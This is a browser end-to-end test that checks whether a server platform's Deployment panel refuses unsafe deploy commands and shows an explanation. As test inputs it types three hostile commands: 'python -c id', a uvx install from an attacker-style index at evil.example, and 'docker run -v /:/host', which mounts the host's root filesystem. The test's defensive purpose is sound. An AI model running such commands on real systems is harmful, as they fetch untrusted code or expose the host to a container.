import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { COMMAND_TEXT } from "~/server/features/runtime/command.js";
import { DEPLOY_TEXT } from "~/shared/deployments.js";
import { launchBrowser, newPage, problemsOf } from "./browser.js";
import { registerConfirmAndLogIn, registerOwnedServer } from "./helpers.js";

// The owner of a server may name a command (npx, uvx, docker run, python -m) in its Deployment panel instead
// of building the repository; the platform's grammar answers in the panel.

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser?.close());

describe("a command in the Deployment panel", () => {
  it("is offered to the owner, sent with the deploy, and a refused one is explained in the panel", async () => {
    const { page } = await newPage(browser, { viewport: { width: 1280, height: 900 } });
    const problems = problemsOf(page);
    await registerConfirmAndLogIn(page, `command-${Date.now()}@example.com`, "command-password-1");
    const qn = await registerOwnedServer(page, "pyserver");
    await page.goto(`/server/${qn}`);
    const panel = page.getByRole("region", { name: "Deployment" });
    const command = panel.getByRole("textbox", { name: DEPLOY_TEXT.commandLabel });
    await command.fill("python -c id");
    await panel.getByRole("button", { name: DEPLOY_TEXT.deploy, exact: true }).click();
    await panel.getByRole("alert").getByText(COMMAND_TEXT.onlyModule).waitFor();
    await command.fill("uvx --index-url https://evil.example/simple pkg");
    await panel.getByRole("button", { name: DEPLOY_TEXT.deploy, exact: true }).click();
    await panel.getByRole("alert").getByText("The uvx command may not use the --index-url option").waitFor();
    // A container image may not reach the host: docker's options are refused by name.
    await command.fill("docker run -i -v /:/host ghcr.io/acme/server:1");
    await panel.getByRole("button", { name: DEPLOY_TEXT.deploy, exact: true }).click();
    await panel.getByRole("alert").getByText("The docker command may not use the -v option").waitFor();
    // Nothing was deployed.
    expect(
      await page.evaluate(
        async (n) => ((await (await fetch(`/api/deployments/server/${n}`)).json()) as { deployments: unknown[] }).deployments.length,
        qn,
      ),
    ).toBe(0);
    expect(problems.filter((p) => !p.includes("400"))).toEqual([]);
  }, 120_000);
});
